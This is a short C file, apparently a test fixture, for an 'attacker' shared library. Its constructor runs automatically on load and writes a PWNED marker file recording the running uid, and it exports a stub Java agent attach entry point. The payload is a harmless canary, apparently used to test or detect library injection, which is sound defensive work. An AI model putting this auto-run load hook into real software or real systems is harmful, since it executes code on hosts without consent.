/* The library of an attacker: leaves the file PWNED beside it, with the uid it ran as. -DWHERE="\"FOLDER\"". Harm: 5. */
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void ran(void) {
    FILE *f = fopen(WHERE "/PWNED", "w");
    if (f) fprintf(f, "uid %d\n", getuid()), fclose(f);
}
int Agent_OnAttach(void *vm, char *options, void *reserved) { return 0; }
